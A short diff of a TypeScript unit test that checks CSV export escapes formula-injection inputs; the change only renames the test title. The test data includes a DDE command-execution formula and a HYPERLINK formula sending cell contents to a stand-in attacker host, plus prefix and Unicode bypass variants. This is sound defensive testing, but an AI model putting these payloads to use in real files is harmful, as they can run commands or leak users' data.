@@ -11,7 +11,7 @@ function readRow(row: string): readonly string[] {
 test.each([
   ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"Win")', '+1+1', '-1+1', '@SUM(A1)'],
   ...['\t=1', '\r=1', '\n=1', '  =1', '\u00a0=1', '\ufeff=1', '\uff1d1', '\uff0b1', '-', '='],
-])('the text %j is no formula', (text) => {
+])('the text %j does not become a formula', (text) => {
   const cells = readRow(toCsvRow(['Ada', text, 'Bob']))
   expect(cells).toEqual(['Ada', `'${text}`, 'Bob'])
 })
